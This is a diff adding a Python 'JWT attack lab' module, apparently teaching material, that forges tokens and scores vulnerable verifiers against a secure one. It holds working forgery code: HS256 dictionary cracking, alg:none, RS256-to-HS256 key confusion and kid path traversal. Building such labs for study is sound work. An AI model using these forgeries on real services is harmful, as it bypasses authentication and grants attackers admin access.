@@ -1,0 +1,318 @@
+"""The JWT attack lab: forge tokens the way attackers do, run each forgery against a
+⚠️ VULNERABLE verifier (with exactly one flaw) and the secure one, keep the score.
+
+Nothing here is simulated: a forged token is a real string, and "accepted" means the
+verifier returned claims with ``role == "admin"`` (or, for the expiry attack, returned
+claims of a token past its ``exp``). The scoreboard is computed from those runs.
+"""
+from __future__ import annotations
+
+import hashlib
+import hmac
+import html
+import random
+import time
+import warnings
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from sessionlab.web.tokens import (FLAWS, TokenError, TokenService, VulnerableVerifier, b64url_encode,
+                     encode_unsigned, hmac_key, split_token)
+
+__all__ = ["load_wordlist", "SUFFIXES", "candidate_count", "crack_hs256", "CrackResult", "weak_secret",
+           "tamper", "forge_alg_none", "forge_hs256", "forge_alg_confusion", "forge_kid_path",
+           "ATTACKS", "AttackOutcome", "AttackLab", "pyjwt_refuses_pem_as_hmac"]
+
+WORDLIST = Path(__file__).resolve().parents[3] / "data" / "jwt_secrets_wordlist.txt"
+# Mangling rules, as password crackers apply them: the word, then the word + 0..99.
+SUFFIXES = ("",) + tuple(str(n) for n in range(100))
+
+
+def load_wordlist(path: str | Path | None = None) -> list[str]:
+    text = Path(path or WORDLIST).read_text(encoding="utf-8")
+    return [w for w in (line.strip() for line in text.splitlines()) if w and not w.startswith("#")]
+
+
+def candidate_count(words, suffixes=SUFFIXES) -> int:
+    return len(words) * len(suffixes)
+
+
+def weak_secret(words, rng: random.Random | None = None) -> str:
+    """A weak secret as people pick them: a list word plus a two-digit number (from the list's back half)."""
+    rng = rng or random.SystemRandom()
+    word = rng.choice(words[len(words) // 2:])
+    return f"{word}{rng.randint(10, 99)}"
+
+
+@dataclass
+class CrackResult:
+    secret: str | None
+    tried: int
+    total: int
+    seconds: float
+
+    @property
+    def found(self) -> bool:
+        return self.secret is not None
+
+    def __repr__(self) -> str:
+        what = "비밀 키를 찾았습니다" if self.found else "비밀 키를 찾지 못했습니다"
+        return f"<CrackResult {what}: 후보 {self.tried:,}/{self.total:,}개 시도>"
+
+
+def crack_hs256(token: str, words, suffixes=SUFFIXES, progress: bool = True) -> CrackResult:
+    """Offline dictionary attack on an HS256 token: HMAC every candidate, compare with the signature.
+
+    Offline means no server sees the attempts: no rate limit, no lockout helps.
+    """
+    header, _payload, signature = split_token(token)
+    if header.get("alg") != "HS256":
+        raise ValueError("HS256 토큰만 이 방법으로 깰 수 있습니다.")
+    signing_input = token.rsplit(".", 1)[0].encode("ascii")
+    total = candidate_count(words, suffixes)
+    bar = None
+    if progress:
+        from tqdm.auto import tqdm
+        bar = tqdm(total=total, unit="후보", unit_scale=True, desc="사전 공격", mininterval=0.25)
+    tried, start, found = 0, time.perf_counter(), None
+    digest = hmac.digest
+    try:
+        for word in words:
+            for suffix in suffixes:
+                candidate = (word + suffix).encode("utf-8")
+                if digest(candidate, signing_input, "sha256") == signature:
+                    found = word + suffix
+                    tried += 1
+                    break
+                tried += 1
+            if bar is not None:
+                bar.update(len(suffixes))
+            if found is not None:
+                break
+    finally:
+        if bar is not None:
+            bar.close()
+    return CrackResult(found, tried, total, time.perf_counter() - start)
+
+
+# --- forging ----------------------------------------------------------------------------
+
+def tamper(token: str, **changes) -> str:
+    """Change payload claims and keep the old signature (no key needed, and none used)."""
+    header, payload, signature = split_token(token)
+    return encode_unsigned(header, {**payload, **changes}, signature)
+
+
+def forge_alg_none(token: str, **changes) -> str:
+    header, payload, _ = split_token(token)
+    return encode_unsigned({"alg": "none", "typ": "JWT"}, {**payload, **changes}, b"")
+
+
+def forge_hs256(token: str, secret: bytes | str, header_changes: dict | None = None, **changes) -> str:
+    """Re-sign a (modified) token with HMAC-SHA256 and any bytes as the secret."""
+    header, payload, _ = split_token(token)
+    header = {**header, "alg": "HS256", **(header_changes or {})}
+    if isinstance(secret, str):
+        secret = secret.encode("utf-8")
+    unsigned = encode_unsigned(header, {**payload, **changes}).rsplit(".", 1)[0]
+    sig = hmac.new(secret, unsigned.encode("ascii"), hashlib.sha256).digest()
+    return f"{unsigned}.{b64url_encode(sig)}"
+
+
+def forge_alg_confusion(token: str, public_pem: bytes, **changes) -> str:
+    """RS256 → HS256 with the *public* key (which anyone can fetch) as the HMAC secret."""
+    return forge_hs256(token, public_pem, **changes)
+
+
+KID_TRAVERSAL = "../" * 12 + "dev/null"
+
+
+def forge_kid_path(token: str, **changes) -> str:
+    """kid pointing at /dev/null: a verifier that opens kid as a file reads b'' as the key."""
+    return forge_hs256(token, b"", header_changes={"kid": KID_TRAVERSAL}, **changes)
+
+
+# --- the lab ------------------------------------------------------------------------------
+
+ATTACKS = {
+    "no_signature": ("서명 미검증 (payload 변조)", "no_signature"),
+    "alg_none": ("alg: none", "alg_none"),
+    "weak_secret": ("약한 HS256 비밀 키 (사전 공격)", "weak_secret"),
+    "alg_confusion": ("알고리즘 혼동 (RS256 공개 키 → HS256)", "alg_from_header"),
+    "no_exp": ("만료(exp) 미확인", "no_exp"),
+    "kid_path": ("kid 경로 조작 (path traversal)", "kid_path"),
+}
+
+
+@dataclass
+class AttackOutcome:
+    attack: str
+    title: str
+    flaw: str
+    vulnerable_accepted: bool
+    vulnerable_detail: str
+    secure_blocked: bool
+    secure_code: str
+    secure_reason: str
+    http_status: int | None = None
+
+    @property
+    def as_expected(self) -> bool:
+        return self.vulnerable_accepted and self.secure_blocked and self.http_status in (None, 401)
+
+    def __repr__(self) -> str:
+        v = "⚠️ 뚫림(accepted)" if self.vulnerable_accepted else f"막힘({self.vulnerable_detail})"
+        s = f"막힘: {self.secure_code}" if self.secure_blocked else "⚠️ 뚫림(accepted)"
+        http = f", 보안 앱 HTTP {self.http_status}" if self.http_status is not None else ""
+        return f"[{self.title}] 취약 버전: {v} | 보안 버전: {s}{http}"
+
+
+@contextmanager
+def _quiet_short_keys(record: list | None = None):
+    """PyJWT warns about HMAC keys under 32 bytes; the weak-secret lab uses one on purpose.
+    The warnings are kept (in ``record``) so the lab can show that PyJWT did warn."""
+    import jwt
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always", jwt.InsecureKeyLengthWarning)
+        yield
+    if record is not None:
+        record.extend(w for w in caught if issubclass(w.category, jwt.InsecureKeyLengthWarning))
+
+
+def _attempt(verifier, token, want) -> tuple[bool, str]:
+    try:
+        claims = verifier.verify(token)
+    except TokenError as exc:
+        return False, exc.code
+    return want(claims), "accepted"
+
+
+@dataclass
+class AttackLab:
+    """One attacker, one secure service, and a ⚠️ VULNERABLE verifier per flaw.
+
+    ``run(name)`` performs one attack against both and records the outcome;
+    ``scoreboard()`` is the table of every outcome recorded so far.
+    """
+
+    secure: TokenService
+    words: list = field(default_factory=load_wordlist)
+    app_url: str | None = None
+    results: dict = field(default_factory=dict)
+    cracked: dict = field(default_factory=dict)
+    pyjwt_warnings: list = field(default_factory=list)
+
+    def __post_init__(self):
+        self.weak_secret = weak_secret(self.words)
+        # ⚠️ VULNERABLE: correct code, but a guessable HS256 secret.
+        self.weak = TokenService(keys={"HS256": hmac_key(self.weak_secret)}, alg="HS256")
+
+    def vulnerable(self, flaw: str) -> VulnerableVerifier:
+        """⚠️ VULNERABLE verifier with exactly one flaw (see ``tokens.FLAWS``)."""
+        return VulnerableVerifier(self.secure.keys, flaws=(flaw,))
+
+    def victim_token(self, alg: str = "HS256", **kw) -> str:
+        return self.secure.issue("alice", alg=alg, role="user", **kw)
+
+    def crack(self, progress: bool = True) -> dict:
+        """The dictionary attack on a token of each service (weak secret, random secret)."""
+        with _quiet_short_keys(self.pyjwt_warnings):
+            weak_token = self.weak.issue("alice", role="user")
+        strong_token = self.victim_token()
+        self.cracked = {"weak": (weak_token, crack_hs256(weak_token, self.words, progress=progress)),
+                        "secure": (strong_token, crack_hs256(strong_token, self.words, progress=progress))}
+        return {k: v[1] for k, v in self.cracked.items()}
+
+    def forge(self, name: str) -> tuple[str, str, object]:
+        """(token for the vulnerable side, token for the secure side, vulnerable verifier)."""
+        admin = {"role": "admin"}
+        if name == "no_signature":
+            t = tamper(self.victim_token(), **admin)
+            return t, t, self.vulnerable("no_signature")
+        if name == "alg_none":
+            t = forge_alg_none(self.victim_token(), **admin)
+            return t, t, self.vulnerable("alg_none")
+        if name == "alg_confusion":
+            pem = self.secure.keys["RS256"].public_pem()  # public: anyone can fetch it
+            t = forge_alg_confusion(self.victim_token("RS256"), pem, **admin)
+            return t, t, self.vulnerable("alg_from_header")
+        if name == "no_exp":  # an old admin token, e.g. from a log file, expired an hour ago
+            t = self.secure.issue("admin", role="admin", now=time.time() - 7200, ttl=3600)
+            return t, t, self.vulnerable("no_exp")
+        if name == "kid_path":
+            t = forge_kid_path(self.victim_token(), **admin)
+            return t, t, self.vulnerable("kid_path")
+        if name == "weak_secret":
+            if not self.cracked:
+                self.crack(progress=False)
+            weak_token, weak_result = self.cracked["weak"]
+            strong_token, strong_result = self.cracked["secure"]
+            t_weak = forge_hs256(weak_token, weak_result.secret or "secret", **admin)
+            t_strong = forge_hs256(strong_token, strong_result.secret or self.words[0], **admin)
+            return t_weak, t_strong, self.weak.verifier
+        raise KeyError(f"알 수 없는 공격: {name} (가능: {', '.join(ATTACKS)})")
+
+    def run(self, name: str) -> AttackOutcome:
+        title, flaw = ATTACKS[name]
+        for_vuln, for_secure, vuln = self.forge(name)
+        want = (lambda c: c.get("sub") == "admin") if name == "no_exp" else (lambda c: c.get("role") == "admin")
+        with _quiet_short_keys(self.pyjwt_warnings):
+            accepted, detail = _attempt(vuln, for_vuln, want)
+        s_ok, s_code = _attempt(self.secure.verifier, for_secure, lambda c: True)
+        status = None
+        if self.app_url:
+            import requests
+            status = requests.get(f"{self.app_url}/admin", timeout=5,
+                                  headers={"Authorization": f"Bearer {for_secure}"}).status_code
+        reason = TokenError(s_code).reason if not s_ok else ""
+        out = AttackOutcome(name, title, FLAWS.get(flaw, "추측 가능한 비밀 키"), accepted, detail,
+                            not s_ok, s_code if not s_ok else "accepted", reason, status)
+        self.results[name] = out
+        return out
+
+    def run_all(self) -> list[AttackOutcome]:
+        return [self.run(name) for name in ATTACKS]
+
+    def scoreboard(self) -> "Scoreboard":
+        return Scoreboard([self.results[n] for n in ATTACKS if n in self.results])
+
+
+@dataclass
+class Scoreboard:
+    rows: list
+
+    @property
+    def all_as_expected(self) -> bool:
+        return bool(self.rows) and all(r.as_expected for r in self.rows)
+
+    def text(self) -> str:
+        lines = [f"{'공격':<28} {'취약 버전':<10} {'보안 버전'}"]
+        for r in self.rows:
+            v = "뚫림" if r.vulnerable_accepted else "막힘"
+            s = f"막힘 ({r.secure_code})" if r.secure_blocked else "뚫림"
+            if r.http_status is not None:
+                s += f", HTTP {r.http_status}"
+            lines.append(f"{r.title:<28} {v:<10} {s}")
+        return "\n".join(lines)
+
+    __repr__ = text
+
+    def _repr_html_(self) -> str:
+        rows = "".join(
+            f"<tr><td>{html.escape(r.title)}</td><td>{html.escape(r.flaw)}</td>"
+            f"<td>{'⚠️ 뚫림' if r.vulnerable_accepted else '막힘'}</td>"
+            f"<td>{'✅ 막힘 (' + html.escape(r.secure_code) + ')' if r.secure_blocked else '⚠️ 뚫림'}</td>"
+            f"<td>{'' if r.http_status is None else r.http_status}</td></tr>" for r in self.rows)
+        return ("<table><tr><th>공격</th><th>취약 버전의 실수</th><th>⚠️ 취약 버전</th>"
+                "<th>보안 버전</th><th>보안 앱 HTTP</th></tr>" + rows + "</table>")
+
+
+def pyjwt_refuses_pem_as_hmac(public_pem: bytes) -> str:
+    """What PyJWT says when asked to use a PEM public key as an HMAC secret (it refuses)."""
+    import jwt
+    try:
+        jwt.encode({"sub": "x"}, public_pem, algorithm="HS256")
+    except jwt.exceptions.InvalidKeyError as exc:
+        return f"{type(exc).__name__}: {exc}"
+    return "PyJWT가 거부하지 않았습니다"
